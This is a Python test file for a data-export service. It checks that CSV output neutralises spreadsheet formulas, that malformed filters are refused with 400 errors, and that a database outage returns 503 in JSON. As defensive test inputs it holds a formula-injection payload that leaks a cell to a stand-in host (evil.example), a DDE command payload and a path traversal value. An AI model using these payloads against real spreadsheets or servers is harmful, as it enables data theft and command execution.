"""Hostile exports: formulas from a report's text neutralised in CSV, filters that overflow refused, and
a database outage answered 503 in JSON, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from service.http.export import spreadsheet_safe
from tests.support.app import running_app
from tests.support.databases import allow_connections, drop_postgres_database, new_database
from tests.support.paths import SEED
from tests.support.stack import Stack

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def test_cells_that_start_like_formulas_are_neutralised_numbers_are_not() -> None:
    for hostile in (FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tx", "\r=1"):
        assert spreadsheet_safe(hostile) == "'" + hostile
    for kept in ("相談実績件数", "-5", "+12", "-0.5", "1e3", -5, 0, 12, None, ""):
        assert spreadsheet_safe(kept) == kept


async def test_a_formula_title_from_a_report_is_exported_inert(stack: Stack) -> None:
    text = SEED.read_text(encoding="utf-8").replace("### 1.名寄せ後の事業者数", f"### 1.{FORMULA}", 1)
    body = await stack.upload(text.encode(), "formula.txt")
    report = await stack.finished(body["data"]["uploadReport"]["id"])
    assert report["status"] == "SUCCEEDED", report["error"]
    response = await stack.client.get("/export/observations.csv", params={"fiscal_year": "2026"})
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    names = {row["indicator_name"] for row in rows}
    assert "'" + FORMULA in names and FORMULA not in names
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row.values())
    as_json = await stack.client.get("/export/observations.json", params={"fiscal_year": "2026"})
    assert FORMULA in {row["indicator_name"] for row in as_json.json()}  # JSON keeps the text as it is
    legacy = await stack.client.get(
        "/export/observations.csv", params={"fiscal_year": "2026", "encoding": "cp932"}
    )
    assert legacy.status_code == 200 and "'=HYPERLINK" in legacy.content.decode("cp932")


@pytest.mark.parametrize(
    "params",
    [
        {"fiscal_year": "99999999999999999999"},
        {"fiscal_year": "-2026"},
        {"fiscal_year": ",".join(str(year) for year in range(1900, 2100))},
        {"from": "1-04", "to": "999999-03"},
        {"from": "2026-13", "to": "2027-03"},
        {"from": "9" * 5000 + "-04", "to": "2027-03"},
        {"fiscal_year": "2026", "indicator": "x" * 10_000},
        {"fiscal_year": "2026", "prefecture": "../../etc/passwd"},
        {"fiscal_year": "2026", "region": "\u202e"},
    ],
)
async def test_filters_that_name_nothing_are_refused_in_json(stack: Stack, params: dict[str, str]) -> None:
    response = await stack.client.get("/export/observations.csv", params=params)
    assert response.status_code == 400, response.text[:300]
    error = response.json()["errors"][0]
    assert error["extensions"]["code"] == "BAD_USER_INPUT"
    assert len(error["message"]) < 2000


async def test_an_export_while_the_database_is_down_is_a_503_in_json(
    redis_url: str, queue_name: str, tmp_path: Path
) -> None:
    url, name = await new_database("postgresql", tmp_path)
    assert name is not None
    env = {"DATABASE_URL": url, "REDIS_URL": redis_url, "QUEUE_NAME": f"{queue_name}:export-outage"}
    try:
        async with running_app(env) as running:
            await allow_connections(name, False)
            for path in ("/export/observations.csv", "/export/observations.json"):
                response = await running.client.get(path, params={"fiscal_year": "2026"})
                assert response.status_code == 503, response.text[:300]
                assert response.headers["content-type"].startswith("application/json")
                assert response.json()["errors"][0]["extensions"]["code"] == "SERVICE_UNAVAILABLE"
            await allow_connections(name, True)
            back = await running.client.get("/export/observations.csv", params={"fiscal_year": "2026"})
            assert back.status_code == 200
    finally:
        await allow_connections(name, True)
        await drop_postgres_database(name)
